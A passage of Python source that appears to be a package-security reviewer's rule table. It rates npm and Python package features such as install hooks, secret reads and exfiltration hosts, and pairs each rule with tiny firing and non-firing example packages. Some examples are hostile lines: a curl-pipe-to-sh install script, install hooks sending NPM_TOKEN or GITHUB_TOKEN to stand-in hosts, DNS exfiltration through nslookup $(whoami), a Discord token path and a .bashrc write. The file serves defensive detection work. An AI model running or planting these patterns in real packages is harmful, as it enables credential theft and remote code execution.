"""Every rule the reviewer has, as data: what it rates, on which axis, and an example of each side.

A *capability* says what a package can do (start programs, read the environment, call out);
an MCP server exists to do such things, so a capability alone never makes a package
`suspicious` or `malicious`. An *indicator* is something no honest package needs (a secret
sent out at install, a payload decoded into `exec`, a Telegram bot as a drop box). The
`scope` says where a rule looks: `install` (code a hook runs), `manifest` (what the manifests
declare), `runtime` (the package's code when it runs) or `any`.

`positive` and `benign` are tiny packages (file name -> text): the rule fires on the first and
stays quiet on the second (tests/test_review_rules.py runs every pair).
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field, replace
from typing import Literal

from hooklab.lang import Lang, current_lang

Axis = Literal["capability", "indicator"]
Scope = Literal["install", "manifest", "runtime", "any"]


@dataclass(frozen=True)
class Rule:
    id: str
    category: str
    axis: Axis
    level: str  # the default level; some rules raise or lower it with the context they see
    title: str
    title_ko: str
    why: str
    why_ko: str
    scope: Scope
    positive: dict[str, str] = field(default_factory=dict, compare=False)
    benign: dict[str, str] = field(default_factory=dict, compare=False)

    def title_in(self, lang: Lang | None = None) -> str:
        """The rule's title in `lang` (the kit's language by default)."""
        return self.title_ko if (lang or current_lang()) == "ko" else self.title

    def to_dict(self) -> dict[str, object]:
        return {
            "id": self.id,
            "category": self.category,
            "axis": self.axis,
            "level": self.level,
            "title": self.title,
            "title_ko": self.title_ko,
            "why": self.why,
            "why_ko": self.why_ko,
            "scope": self.scope,
            "positive": self.positive,
            "benign": self.benign,
        }


def _r(
    rid: str,
    axis: Axis,
    level: str,
    scope: Scope,
    title: str,
    title_ko: str,
    why: str,
    why_ko: str,
) -> Rule:
    category = _CATEGORY[rid.split(".", 1)[0]]
    return Rule(rid, category, axis, level, title, title_ko, why, why_ko, scope)


_CATEGORY = {
    "install": "install",
    "secrets": "secrets",
    "network": "network_file",
    "file": "network_file",
    "exec": "exec_privilege",
    "output": "output_llm",
    "supply": "supply_chain",
}
CAP: Axis = "capability"
IND: Axis = "indicator"

RULES: tuple[Rule, ...] = (
    # install: what the manifests declare
    _r(
        "install.preinstall",
        CAP,
        "medium",
        "manifest",
        "preinstall script",
        "preinstall 스크립트",
        "npm runs it before the package installs, on every install or npx",
        "npm이 설치 전에, 설치나 npx 때마다 실행합니다",
    ),
    _r(
        "install.install",
        CAP,
        "medium",
        "manifest",
        "install script",
        "install 스크립트",
        "npm runs it while the package installs, on every install or npx",
        "npm이 설치 중에, 설치나 npx 때마다 실행합니다",
    ),
    _r(
        "install.postinstall",
        CAP,
        "medium",
        "manifest",
        "postinstall script",
        "postinstall 스크립트",
        "npm runs it right after install, before the program you asked for",
        "npm이 설치 직후, 요청한 프로그램보다 먼저 실행합니다",
    ),
    _r(
        "install.prepare",
        CAP,
        "low",
        "manifest",
        "prepare script",
        "prepare 스크립트",
        "runs for git and local-folder installs, not for a registry tarball",
        "git·로컬 폴더 설치에서만 돌고 레지스트리 tarball 설치에서는 돌지 않습니다",
    ),
    _r(
        "install.uninstall",
        IND,
        "high",
        "manifest",
        "uninstall hook",
        "제거 훅",
        "npm 7+ never runs preuninstall/postuninstall: a package declaring one targets old "
        "clients or hides code where reviewers do not look",
        "npm 7 이후로는 실행되지 않는 훅이라, 선언했다면 옛 클라이언트를 노리거나 "
        "코드를 숨기는 것입니다",
    ),
    _r(
        "install.node-gyp",
        CAP,
        "medium",
        "manifest",
        "implicit node-gyp build",
        "암묵적 node-gyp 빌드",
        "binding.gyp makes npm run `node-gyp rebuild` (a native build) at install",
        "binding.gyp가 있으면 npm이 설치 때 `node-gyp rebuild`(네이티브 빌드)를 실행합니다",
    ),
    _r(
        "install.gyp-command",
        CAP,
        "high",
        "manifest",
        "command in binding.gyp",
        "binding.gyp 속 명령",
        "a `<!(...)` expansion in binding.gyp runs a shell command at install",
        "binding.gyp의 `<!(...)` 확장은 설치 때 셸 명령을 실행합니다",
    ),
    _r(
        "install.setup.py",
        CAP,
        "low",
        "manifest",
        "setup.py",
        "setup.py",
        "setup.py is a program: every sdist build runs it",
        "setup.py는 프로그램이라 sdist 빌드마다 실행됩니다",
    ),
    _r(
        "install.build-backend",
        CAP,
        "medium",
        "manifest",
        "in-tree build backend",
        "패키지 안 빌드 백엔드",
        "an in-tree build backend (backend-path) runs when a front end imports it",
        "backend-path로 지정한 빌드 백엔드는 빌드 도구가 불러올 때 실행됩니다",
    ),
    _r(
        "install.hatch-hook",
        CAP,
        "medium",
        "manifest",
        "hatch build hook",
        "hatch 빌드 훅",
        "a hatch build hook runs the package's own code at build",
        "hatch 빌드 훅은 빌드 때 패키지 자신의 코드를 실행합니다",
    ),
    _r(
        "install.cmdclass",
        CAP,
        "medium",
        "manifest",
        "setuptools cmdclass",
        "setuptools cmdclass",
        "cmdclass swaps a setuptools command for the package's own code at build",
        "cmdclass는 setuptools 명령을 패키지 자신의 코드로 바꿔 빌드 때 실행합니다",
    ),
    _r(
        "install.cmdclass-egg-info",
        IND,
        "high",
        "manifest",
        "cmdclass on egg_info",
        "egg_info의 cmdclass",
        "egg_info runs even for `pip download` and metadata reads: "
        "no honest build needs to replace it",
        "egg_info는 `pip download`나 메타데이터 조회 때도 돌기 때문에, "
        "정직한 빌드라면 이를 바꿀 이유가 없습니다",
    ),
    _r(
        "install.pth",
        CAP,
        "high",
        "manifest",
        "executable .pth line",
        "실행되는 .pth 줄",
        "a .pth line starting with `import` runs at every Python start after install",
        "`import`로 시작하는 .pth 줄은 설치 뒤 파이썬이 시작할 때마다 실행됩니다",
    ),
    _r(
        "install.limit",
        CAP,
        "medium",
        "install",
        "reviewer limit",
        "검토 한계",
        "the reviewer hit a limit: what it did not read may run at install",
        "검토기가 한계에 닿았습니다. 읽지 못한 부분이 설치 때 실행될 수 있습니다",
    ),
    _r(
        "install.unread",
        IND,
        "high",
        "install",
        "unread install-time file",
        "읽지 못한 설치 시점 파일",
        "a manifest or a hook's file could not be read (too large, padded, broken): what it runs "
        "is unknown, and padding past a scanner's limit is an evasion",
        "매니페스트나 훅 파일을 읽지 못했습니다(너무 큼, 덧붙임, 손상). 무엇을 실행하는지 모르며, "
        "검사기 한계를 넘기는 덧붙임은 회피 수법입니다",
    ),
    _r(
        "install.unread-other",
        CAP,
        "medium",
        "any",
        "unread files",
        "읽지 못한 파일",
        "files the reviewer did not read may be code",
        "검토기가 읽지 못한 파일이 코드일 수 있습니다",
    ),
    # install: what a hook's command line or code does
    _r(
        "install.script-network",
        CAP,
        "high",
        "install",
        "hook command downloads",
        "훅 명령이 내려받음",
        "the hook's command line itself opens a connection",
        "훅의 명령줄 자체가 네트워크에 연결합니다",
    ),
    _r(
        "install.script-eval",
        CAP,
        "high",
        "install",
        "hook command runs inline code",
        "훅 명령이 인라인 코드 실행",
        "the hook's command line pipes into a shell or runs inline code",
        "훅의 명령줄이 셸로 파이프하거나 인라인 코드를 실행합니다",
    ),
    _r(
        "install.download",
        CAP,
        "medium",
        "install",
        "URL in install code",
        "설치 코드 속 URL",
        "install-time code names a URL: maybe a download during build",
        "설치 시점 코드가 URL을 담고 있습니다. 빌드 중 내려받기일 수 있습니다",
    ),
    _r(
        "install.network",
        CAP,
        "high",
        "install",
        "network at install",
        "설치 중 네트워크",
        "install-time code opens a network connection",
        "설치 시점 코드가 네트워크에 연결합니다",
    ),
    _r(
        "install.exec",
        CAP,
        "medium",
        "install",
        "program started at install",
        "설치 중 프로그램 실행",
        "install-time code starts another program",
        "설치 시점 코드가 다른 프로그램을 실행합니다",
    ),
    _r(
        "install.eval",
        CAP,
        "high",
        "install",
        "dynamic code at install",
        "설치 중 동적 코드",
        "install-time code builds and runs code at run time",
        "설치 시점 코드가 실행 중에 코드를 만들어 실행합니다",
    ),
    _r(
        "install.file-write",
        CAP,
        "medium",
        "install",
        "file write at install",
        "설치 중 파일 쓰기",
        "install-time code writes or changes files",
        "설치 시점 코드가 파일을 쓰거나 바꿉니다",
    ),
    _r(
        "install.write-outside",
        CAP,
        "high",
        "install",
        "write outside its folder",
        "자기 폴더 밖 쓰기",
        "install-time code writes outside its own folder (a path from the env or home)",
        "설치 시점 코드가 자기 폴더 밖(환경 변수나 홈에서 온 경로)에 씁니다",
    ),
    _r(
        "install.read-outside",
        CAP,
        "medium",
        "install",
        "read outside its folder",
        "자기 폴더 밖 읽기",
        "install-time code reads a file outside its folder (a path from the env or home)",
        "설치 시점 코드가 자기 폴더 밖 파일을 읽습니다",
    ),
    _r(
        "install.file-read",
        CAP,
        "low",
        "install",
        "file read at install",
        "설치 중 파일 읽기",
        "install-time code reads a file",
        "설치 시점 코드가 파일을 읽습니다",
    ),
    _r(
        "install.env-read",
        CAP,
        "low",
        "install",
        "env read at install",
        "설치 중 환경 변수 읽기",
        "install-time code reads an environment variable",
        "설치 시점 코드가 환경 변수를 읽습니다",
    ),
    _r(
        "install.listen",
        CAP,
        "high",
        "install",
        "server at install",
        "설치 중 서버",
        "install-time code opens a server on every interface",
        "설치 시점 코드가 모든 인터페이스에 서버를 엽니다",
    ),
    _r(
        "install.credential-path",
        IND,
        "high",
        "install",
        "credential path at install",
        "설치 중 자격 증명 경로",
        "install-time code names a credential file: a build has no use for it",
        "설치 시점 코드가 자격 증명 파일을 가리킵니다. 빌드에는 필요 없는 것입니다",
    ),
    _r(
        "install.env-dump",
        IND,
        "high",
        "install",
        "whole environment at install",
        "설치 중 환경 전체",
        "install-time code reads the whole environment",
        "설치 시점 코드가 환경 변수 전체를 읽습니다",
    ),
    _r(
        "install.secret-to-network",
        IND,
        "high",
        "install",
        "secret sent out at install",
        "설치 중 비밀 전송",
        "install-time code reads a secret and sends data out",
        "설치 시점 코드가 비밀을 읽고 밖으로 보냅니다",
    ),
    _r(
        "install.download-exec",
        IND,
        "high",
        "install",
        "download and execute",
        "내려받아 실행",
        "install-time code fetches something and runs it (exec, eval, a shell, a child process)",
        "설치 시점 코드가 무언가를 내려받아 실행합니다",
    ),
    _r(
        "install.second-runtime",
        IND,
        "high",
        "install",
        "second runtime fetched",
        "두 번째 런타임 설치",
        "a hook fetches another runtime (bun, deno) and runs code with it, out of the usual "
        "scanners' sight",
        "훅이 다른 런타임(bun, deno)을 받아 그걸로 코드를 실행해 흔한 검사기의 눈을 피합니다",
    ),
    _r(
        "install.self-delete",
        IND,
        "high",
        "install",
        "hook deletes its own files",
        "훅이 자기 파일 삭제",
        "install-time code deletes the package's own files: it hides what ran",
        "설치 시점 코드가 패키지 자신의 파일을 지워 실행된 흔적을 숨깁니다",
    ),
    _r(
        "install.native-binary",
        CAP,
        "medium",
        "install",
        "bundled binary started",
        "동봉 실행 파일 실행",
        "a hook starts a native executable shipped in the package: the reviewer cannot read it",
        "훅이 패키지에 든 네이티브 실행 파일을 실행합니다. 검토기가 읽을 수 없습니다",
    ),
    _r(
        "install.oversize",
        IND,
        "high",
        "install",
        "install file too large to scan",
        "검사하기엔 너무 큰 설치 파일",
        "a file a hook runs is larger than the scanner reads: its unread part runs at install",
        "훅이 실행하는 파일이 검사 한도보다 커서, 읽지 못한 부분이 설치 때 실행됩니다",
    ),
    # secrets
    _r(
        "secrets.credential-path",
        CAP,
        "medium",
        "runtime",
        "credential path",
        "자격 증명 경로",
        "names a credential file or folder",
        "자격 증명 파일이나 폴더를 가리킵니다",
    ),
    _r(
        "secrets.env-dump",
        CAP,
        "medium",
        "runtime",
        "environment listed",
        "환경 변수 나열",
        "serialises or lists every environment variable",
        "환경 변수 전체를 직렬화하거나 나열합니다",
    ),
    _r(
        "secrets.sensitive-env",
        CAP,
        "medium",
        "runtime",
        "secret-named variable",
        "비밀 같은 환경 변수",
        "reads a variable whose name says it holds a credential",
        "이름으로 보아 자격 증명을 담은 변수를 읽습니다",
    ),
    _r(
        "secrets.flow-to-network",
        CAP,
        "high",
        "runtime",
        "secret and network in one file",
        "한 파일의 비밀과 네트워크",
        "a file that reads a secret also sends data out (an API client does this with its key)",
        "비밀을 읽는 파일이 데이터를 밖으로 보냅니다"
        "(API 클라이언트가 자기 키로 하는 일이기도 합니다)",
    ),
    _r(
        "secrets.flow-to-tool-output",
        CAP,
        "high",
        "runtime",
        "secret read in a tool",
        "도구 안 비밀 읽기",
        "an MCP tool reads a secret; its result goes into the model's prompt",
        "MCP 도구가 비밀을 읽고, 그 결과가 모델의 프롬프트로 들어갑니다",
    ),
    _r(
        "secrets.other-app-store",
        IND,
        "high",
        "any",
        "another program's secret store",
        "다른 프로그램의 비밀 저장소",
        "names a browser profile, a Discord/Slack token store, a crypto wallet, a private key or "
        "another tool's token file: no honest package reads those",
        "브라우저 프로필, Discord/Slack 토큰 저장소, 암호화폐 지갑, "
        "개인 키, 다른 도구의 토큰 파일을 "
        "가리킵니다. 정직한 패키지는 읽지 않습니다",
    ),
    _r(
        "secrets.autostart-write",
        IND,
        "high",
        "any",
        "writes into autostart or shell profile",
        "자동 실행·셸 프로필 쓰기",
        "writes into a shell profile, crontab, launch agent, systemd unit or Windows Run key: "
        "code that comes back at every login",
        "셸 프로필, crontab, LaunchAgent, systemd, Run 키에 써서 로그인마다 다시 실행되게 합니다",
    ),
    # network and files
    _r(
        "network.outbound",
        CAP,
        "medium",
        "runtime",
        "outbound connection",
        "바깥 연결",
        "opens a connection or sends a request",
        "연결을 열거나 요청을 보냅니다",
    ),
    _r(
        "network.all-interfaces",
        CAP,
        "medium",
        "runtime",
        "server on every interface",
        "모든 인터페이스 서버",
        "binds a server to every interface: anyone on the network can reach it",
        "모든 인터페이스에 서버를 열어 네트워크의 누구나 닿을 수 있습니다",
    ),
    _r(
        "network.server",
        CAP,
        "medium",
        "runtime",
        "server",
        "서버",
        "opens a server on a given host; check it stays on localhost",
        "지정한 호스트에 서버를 엽니다. localhost인지 확인하세요",
    ),
    _r(
        "network.default-host",
        CAP,
        "medium",
        "runtime",
        "server without a host",
        "호스트 없는 서버",
        "listens without a host: Node then binds every interface",
        "호스트 없이 listen하면 Node는 모든 인터페이스에 엽니다",
    ),
    _r(
        "network.dns-exfil",
        IND,
        "high",
        "any",
        "data sent through DNS or raw sockets",
        "DNS·원시 소켓 유출",
        "builds a DNS name from data (nslookup/dig with substitution) or sends UDP datagrams: a "
        "channel that passes most egress filters",
        "데이터로 DNS 이름을 만들거나 UDP 데이터그램을 보냅니다. "
        "대부분의 송신 필터를 통과하는 통로입니다",
    ),
    _r(
        "file.sensitive-path",
        CAP,
        "medium",
        "runtime",
        "reads under a sensitive path",
        "민감한 경로 읽기",
        "reads files under a sensitive path",
        "민감한 경로 아래 파일을 읽습니다",
    ),
    _r(
        "file.tool-file-access",
        CAP,
        "medium",
        "runtime",
        "tool touches files",
        "도구의 파일 접근",
        "an MCP tool touches files; check it stays inside a root",
        "MCP 도구가 파일을 다룹니다. 루트 안에 머무는지 확인하세요",
    ),
    # execution
    _r(
        "exec.mcp-runs-commands",
        CAP,
        "high",
        "runtime",
        "MCP server starts programs",
        "MCP 서버의 프로그램 실행",
        "an MCP server starts programs: whatever the model asks for can run",
        "MCP 서버가 프로그램을 실행합니다. 모델이 요청하는 것이 실행될 수 있습니다",
    ),
    _r(
        "exec.shell",
        CAP,
        "high",
        "runtime",
        "shell command",
        "셸 명령",
        "runs a command line through a shell",
        "명령줄을 셸로 실행합니다",
    ),
    _r(
        "exec.child-process",
        CAP,
        "medium",
        "runtime",
        "child process",
        "자식 프로세스",
        "starts another program",
        "다른 프로그램을 실행합니다",
    ),
    _r(
        "exec.dynamic-code",
        CAP,
        "high",
        "runtime",
        "dynamic code",
        "동적 코드",
        "builds and runs code at run time",
        "실행 중에 코드를 만들어 실행합니다",
    ),
    _r(
        "exec.safety-off-by-default",
        CAP,
        "medium",
        "runtime",
        "safe mode is opt-in",
        "안전 모드가 선택 사항",
        "a read-only or non-destructive switch is off unless someone sets it",
        "읽기 전용·비파괴 스위치가 누군가 켜기 전에는 꺼져 있습니다",
    ),
    _r(
        "exec.alias",
        IND,
        "high",
        "any",
        "exec or eval through an alias",
        "별칭을 거친 exec·eval",
        "reaches exec/eval under another name (`x = exec`, `getattr(builtins, ...)`): "
        "a way to hide from scanners",
        "다른 이름(`x = exec`, `getattr(builtins, ...)`)으로 exec/eval에 닿아 검사기를 피합니다",
    ),
    _r(
        "exec.encoded-command",
        IND,
        "high",
        "any",
        "encoded or hidden command",
        "인코딩·숨긴 명령",
        "decodes base64/hex/char codes into exec or a shell, or runs PowerShell hidden or encoded",
        "base64·16진수·문자 코드를 풀어 exec나 셸로 실행하거나, "
        "PowerShell을 숨김·인코딩으로 실행합니다",
    ),
    # output to the LLM
    _r(
        "output.secret-in-tool-output",
        CAP,
        "high",
        "runtime",
        "environment in a tool",
        "도구 안 환경 변수",
        "an MCP tool reads environment or credential data; its result goes to the model",
        "MCP 도구가 환경 변수나 자격 증명을 읽고, 결과가 모델로 갑니다",
    ),
    _r(
        "output.env-dump",
        IND,
        "high",
        "runtime",
        "environment serialised in a server",
        "서버의 환경 변수 직렬화",
        "an MCP server serialises the whole environment (not to a child process): it ends up in "
        "tool output or logs",
        "MCP 서버가 환경 변수 전체를 직렬화합니다(자식 프로세스용이 아님). "
        "도구 출력이나 로그로 나갑니다",
    ),
    _r(
        "output.stdout-on-stdio",
        CAP,
        "medium",
        "runtime",
        "stdout on a stdio server",
        "stdio 서버의 stdout",
        "prints to stdout: over stdio that stream is the protocol, so stray text breaks it",
        "stdout에 찍습니다. stdio에서 그 스트림은 프로토콜이라 잡문이 끼면 깨집니다",
    ),
    _r(
        "output.masks-secrets",
        CAP,
        "low",
        "runtime",
        "secrets masked",
        "비밀 가림",
        "a mitigation: secrets are masked before output",
        "완화책: 출력 전에 비밀을 가립니다",
    ),
    # supply chain
    _r(
        "supply.known-incident",
        IND,
        "high",
        "manifest",
        "dependency with an incident",
        "사고가 있었던 의존성",
        "a dependency version with a published compromise",
        "공개된 침해 사고가 있었던 의존성 버전입니다",
    ),
    _r(
        "supply.url-dependency",
        CAP,
        "medium",
        "manifest",
        "dependency from a URL",
        "URL 의존성",
        "comes from a URL or repository, not a pinned registry release",
        "고정된 레지스트리 릴리스가 아니라 URL이나 저장소에서 옵니다",
    ),
    _r(
        "supply.look-alike-name",
        CAP,
        "medium",
        "manifest",
        "look-alike dependency",
        "닮은 이름 의존성",
        "a dependency one letter away from a popular package",
        "인기 패키지와 한 글자 다른 의존성입니다",
    ),
    _r(
        "supply.exfil-host",
        IND,
        "high",
        "any",
        "paste, webhook or collaborator host",
        "붙여넣기·웹훅·수집 호스트",
        "names a paste site, a webhook, a messenger bot API, an OAST/interactsh collaborator or a "
        "raw IP: places to drop stolen data",
        "붙여넣기 사이트, 웹훅, 메신저 봇 API, OAST/interactsh 수집기, "
        "IP 주소를 가리킵니다. 훔친 데이터를 떨구는 곳입니다",
    ),
    _r(
        "supply.third-party-url",
        CAP,
        "low",
        "runtime",
        "third-party URL",
        "제3자 URL",
        "talks to or names a host",
        "어떤 호스트와 통신하거나 그 이름을 담고 있습니다",
    ),
)


# -- examples: tiny packages, one that fires the rule and a near miss that must not ---------------
# Two tokens stand for content too big to print: a file padded past the reviewer's byte limit,
# and Python with more names than the parser takes. `example_files` expands them.
PAD_BYTES = "<padded past the reviewer's byte limit>"
PAD_NAMES = "<more names than the parser takes>"


def example_files(files: dict[str, str]) -> dict[str, str]:
    """An example's files with the padding tokens expanded (for writing them out)."""
    from hooklab.review.archive import MAX_FILE_BYTES
    from hooklab.review.pyscan import MAX_AST_WORDS

    return {
        name: text.replace(PAD_BYTES, "/" * (MAX_FILE_BYTES + 16)).replace(
            PAD_NAMES, "x = 1\n" * (MAX_AST_WORDS // 2 + 16)
        )
        for name, text in files.items()
    }


def _pkg(name: str = "demo", **fields: object) -> str:
    return json.dumps({"name": name, "version": "1.0.0", **fields})


def _hook(code: str, stage: str = "postinstall", file: str = "setup.js") -> dict[str, str]:
    """An npm package whose `stage` script runs `file` with node."""
    return {"package.json": _pkg(scripts={stage: f"node {file}"}), file: code}


def _script(command: str, **files: str) -> dict[str, str]:
    return {"package.json": _pkg(scripts={"postinstall": command}), **files}


def _js(code: str, name: str = "demo") -> dict[str, str]:
    return {"package.json": _pkg(name), "index.js": code}


def _mcp(code: str, name: str = "demo-mcp") -> dict[str, str]:
    deps = {"@modelcontextprotocol/sdk": "1.0.0"}
    return {"package.json": _pkg(name, dependencies=deps), "index.js": code}


def _deps(**deps: str) -> dict[str, str]:
    return {"package.json": _pkg(dependencies=deps)}


def _py(code: str) -> dict[str, str]:
    return {
        "pyproject.toml": '[project]\nname = "demo"\nversion = "1.0"\n',
        "demo/__init__.py": code,
    }


def _pymcp(code: str) -> dict[str, str]:
    return _py("import os\nfrom mcp.server.fastmcp import FastMCP\nmcp = FastMCP('d')\n" + code)


_CP = "const cp = require('child_process');\n"
_FS = "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
_HTTPS = "const https = require('https');\n"
_SETUP = "from setuptools import setup\n"
_GYP = '{"targets": [{"target_name": "a", "sources": ["a.cc"]}]}'
_TOOL = "@mcp.tool()\ndef status() -> str:\n"

EXAMPLES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "install.preinstall": (_hook("1;", "preinstall"), _hook("1;", "test")),
    "install.install": (_hook("1;", "install"), _hook("1;", "start")),
    "install.postinstall": (_hook("1;"), _hook("1;", "build")),
    "install.prepare": (_hook("1;", "prepare"), _hook("1;", "prepack")),
    "install.uninstall": (_hook("1;", "postuninstall"), _hook("1;", "posttest")),
    "install.node-gyp": (
        {"package.json": _pkg(), "binding.gyp": _GYP},
        {"package.json": _pkg(scripts={"install": "node-gyp-build"}), "binding.gyp": _GYP},
    ),
    "install.gyp-command": (
        {"package.json": _pkg(), "binding.gyp": _GYP.replace("a.cc", "<!(sh make.sh)")},
        {"package.json": _pkg(), "binding.gyp": _GYP},
    ),
    "install.setup.py": ({"setup.py": _SETUP + "setup(name='d')\n"}, _py("X = 1\n")),
    "install.build-backend": (
        {
            "pyproject.toml": '[build-system]\nbuild-backend = "backend"\nbackend-path = ["_b"]\n',
            "_b/backend.py": "def build_wheel(*a):\n    return 'x.whl'\n",
        },
        {"pyproject.toml": '[build-system]\nbuild-backend = "hatchling.build"\n'},
    ),
    "install.hatch-hook": (
        {
            "pyproject.toml": '[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n',
            "hatch_build.py": "X = 1\n",
        },
        {"pyproject.toml": '[tool.hatch.build]\nexclude = ["tests"]\n'},
    ),
    "install.cmdclass": (
        {"setup.py": _SETUP + "class B: pass\nsetup(cmdclass={'build_py': B})\n"},
        {"setup.py": _SETUP + "setup(name='d')\n"},
    ),
    "install.cmdclass-egg-info": (
        {"setup.py": _SETUP + "class E: pass\nsetup(cmdclass={'egg_info': E})\n"},
        {"setup.py": _SETUP + "class B: pass\nsetup(cmdclass={'build_py': B})\n"},
    ),
    "install.pth": ({"demo.pth": "import os; os.getcwd()\n"}, {"demo.pth": "/opt/demo/lib\n"}),
    "install.limit": ({"demo/big.py": PAD_NAMES}, {"demo/small.py": "x = 1\n"}),
    "install.unread": (_hook(PAD_BYTES), _hook("1;")),
    "install.unread-other": (
        {"package.json": _pkg(), "dist/big.js": PAD_BYTES},
        {"package.json": _pkg(), "dist/small.js": "1;"},
    ),
    "install.script-network": (
        _script("curl -o data.bin https://dl.example.com/data.bin"),
        _script("node setup.js", **{"setup.js": "1;"}),
    ),
    "install.script-eval": (_script("sh -c 'echo hi'"), _script("echo hi")),
    "install.download": (
        _hook(_HTTPS + "https.get('https://dl.example.com/bin');\n"),
        _hook("const url = 'https://dl.example.com/bin';\n"),
    ),
    "install.network": (
        _hook(_HTTPS + "https.get(process.argv[2]);\n"),
        _js(_HTTPS + "https.get(process.argv[2]);\n"),
    ),
    "install.exec": (
        _hook(_CP + "cp.execFileSync('make', []);\n"),
        _js(_CP + "cp.execFileSync('make', []);\n"),
    ),
    "install.eval": (_hook("eval(process.argv[2]);\n"), _js("eval(process.argv[2]);\n")),
    "install.file-write": (
        _hook(_FS + "fs.mkdirSync('build');\n"),
        _js(_FS + "fs.mkdirSync('build');\n"),
    ),
    "install.write-outside": (
        _hook(_FS + "fs.writeFileSync(path.join(os.homedir(), '.demo'), 'x');\n"),
        _hook(_FS + "fs.writeFileSync(path.join(__dirname, 'out.txt'), 'x');\n"),
    ),
    "install.read-outside": (
        _hook(_FS + "fs.readFileSync(path.join(os.homedir(), 'demo.txt'));\n"),
        _hook(_FS + "fs.readFileSync(path.join(__dirname, 'demo.txt'));\n"),
    ),
    "install.file-read": (
        _hook(_FS + "fs.readFileSync('demo.txt');\n"),
        _js(_FS + "fs.readFileSync('demo.txt');\n"),
    ),
    "install.env-read": (
        _hook("const ci = process.env.CI;\n"),
        _js("const ci = process.env.CI;\n"),
    ),
    "install.listen": (
        _hook("require('http').createServer().listen(8080, '0.0.0.0');\n"),
        _hook("require('http').createServer().listen(8080, '127.0.0.1');\n"),
    ),
    "install.credential-path": (
        _hook("const rc = '~/.npmrc';\n"),
        _js("const rc = '~/.npmrc';\n"),
    ),
    "install.env-dump": (
        _hook("const all = JSON.stringify(process.env);\n"),
        _hook("const ci = process.env.CI;\n"),
    ),
    "install.secret-to-network": (
        _hook(_HTTPS + "https.get('https://e.example/?t=' + process.env.NPM_TOKEN);\n"),
        _hook(_HTTPS + "https.get('https://e.example/?ci=' + process.env.CI);\n"),
    ),
    "install.download-exec": (
        _script("curl -s https://get.example.com/i.sh | sh"),
        _script("curl -s -o i.sh https://get.example.com/i.sh"),
    ),
    "install.second-runtime": (
        _script("npx bun run payload.js", **{"payload.js": "1;"}),
        _script("node payload.js", **{"payload.js": "1;"}),
    ),
    "install.self-delete": (
        _hook(_FS + "fs.unlinkSync(__filename);\n"),
        _hook(_FS + "fs.unlinkSync(path.join(__dirname, 'tmp.txt'));\n"),
    ),
    "install.native-binary": (
        _script("./bin/setup", **{"bin/setup": "ELF"}),
        _script("./bin/setup.sh", **{"bin/setup.sh": "echo hi\n"}),
    ),
    "install.oversize": (
        {"setup.py": PAD_NAMES + _SETUP + "setup(name='d')\n"},
        {"setup.py": _SETUP + "setup(name='d')\n"},
    ),
    "secrets.credential-path": (
        _js("const p = path.join(os.homedir(), '.aws', 'credentials');\n"),
        _js("const console = 'https://console.aws.amazon.com/iam';\n"),
    ),
    "secrets.env-dump": (
        _js("const names = Object.keys(process.env);\n"),
        _js("const home = process.env.HOME;\n"),
    ),
    "secrets.sensitive-env": (
        _js("const t = process.env.GITHUB_TOKEN;\n"),
        _js("const m = process.env.MASK_SECRETS;\n"),
    ),
    "secrets.flow-to-network": (
        _js("const t = process.env.GITHUB_TOKEN;\nfetch('https://collect.example.net/', t);\n"),
        _js(
            "const key = process.env.ACME_API_KEY;\nfetch('https://api.acme.example/v1', key);\n",
            "acme-mcp",
        ),
    ),
    "secrets.flow-to-tool-output": (
        _pymcp(_TOOL + "    return os.environ['GITHUB_TOKEN']\n"),
        _pymcp(_TOOL + "    return 'ok'\n"),
    ),
    "secrets.other-app-store": (
        _js("const db = 'AppData/Roaming/discord/Local Storage/leveldb';\n"),
        _js("const db = 'AppData/Roaming/demo/settings.json';\n"),
    ),
    "secrets.autostart-write": (
        _js(_FS + "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), 'x');\n"),
        _js(_FS + "fs.readFileSync(path.join(os.homedir(), '.bashrc'));\n"),
    ),
    "network.outbound": (_js("fetch(process.argv[2]);\n"), _js("fetchData(process.argv[2]);\n")),
    "network.all-interfaces": (
        _js("app.listen(3000, '0.0.0.0');\n"),
        _js("app.listen(3000, '127.0.0.1');\n"),
    ),
    "network.server": (_js("app.listen(3000, host);\n"), _js("app.close();\n")),
    "network.default-host": (
        _js("app.listen(3000);\n"),
        _js("app.listen(3000, '127.0.0.1');\n"),
    ),
    "network.dns-exfil": (
        {"package.json": _pkg(), "run.sh": "nslookup $(whoami).x.example\n"},
        {"package.json": _pkg(), "run.sh": "nslookup example.com\n"},
    ),
    "file.sensitive-path": (
        _js(_FS + "fs.readFileSync(path.join(os.homedir(), '.ssh', 'config'));\n"),
        _js("const hint = 'put your key in ~/.ssh';\n"),
    ),
    "file.tool-file-access": (
        _pymcp(_TOOL + "    return open('notes.txt').read()\n"),
        _pymcp(_TOOL + "    return 'ok'\n"),
    ),
    "exec.mcp-runs-commands": (
        _mcp(_CP + "cp.execFileSync('git', ['status']);\n"),
        _mcp(_CP + "const version = cp.version;\n"),
    ),
    "exec.shell": (_js(_CP + "cp.execSync('ls');\n"), _js(_CP + "cp.execFileSync('ls', []);\n")),
    "exec.child-process": (
        _js(_CP + "cp.execFileSync('ls', []);\n"),
        _js("const spawn = (x) => x;\nspawn(1);\n"),
    ),
    "exec.dynamic-code": (
        _js("eval(process.argv[2]);\n"),
        _js("const t = await page.$eval('h1', (el) => el.textContent);\n"),
    ),
    "exec.safety-off-by-default": (
        _js("const ro = process.env.READ_ONLY === 'true';\n"),
        _js("const ro = process.env.READ_ONLY !== 'false';\n"),
    ),
    "exec.alias": (_py("run = exec\nrun('1')\n"), _py("run = print\nrun('1')\n")),
    "exec.encoded-command": (
        _py("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
        _py("import base64\ndata = base64.b64decode('cHJpbnQoMSk=')\nprint(len(data))\n"),
    ),
    "output.secret-in-tool-output": (
        _pymcp(_TOOL + "    return os.environ.get('HOME', '')\n"),
        _pymcp("HOME = os.environ.get('HOME', '')\n" + _TOOL + "    return 'ok'\n"),
    ),
    "output.env-dump": (
        _mcp("const report = { env: process.env };\n"),
        _mcp(_CP + "cp.spawn('git', args, {\n  cwd,\n  env: process.env,\n});\n"),
    ),
    "output.stdout-on-stdio": (
        _mcp("server.connect(new StdioServerTransport());\nconsole.log('ready');\n"),
        _mcp("if (sse) {\n  startSSEServer(server);\n  console.log('SSE server started');\n}\n"),
    ),
